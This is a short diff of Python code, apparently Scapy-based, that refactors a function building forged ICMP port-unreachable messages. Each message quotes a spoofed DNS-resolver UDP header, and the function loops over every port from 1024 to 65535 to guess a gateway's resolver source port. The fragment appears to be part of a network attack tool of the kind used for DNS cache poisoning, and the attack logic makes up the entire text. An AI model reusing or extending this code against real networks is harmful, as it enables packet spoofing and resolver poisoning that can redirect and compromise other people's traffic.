@@ -127,8 +127,8 @@ def own_errors(mac):
 
 def errors_about_others(mac, server, host):
     """About the gateway's own flows to its resolver: one guess for each port."""
+    about = bytes(IP(src=server, dst=host) / UDP(sport=53, dport=0, len=60, chksum=0))
     for port in range(1024, 65536):
-        about = bytes(IP(src=server, dst=host) / UDP(sport=53, dport=0, len=60, chksum=0)) if port == 1024 else about
         inner = about[:22] + port.to_bytes(2, "big") + about[24:] + SECRET[:48]
         body = b"\x03\x03" + bytes(6) + inner
         total = sum(int.from_bytes(body[i : i + 2], "big") for i in range(0, len(body), 2))
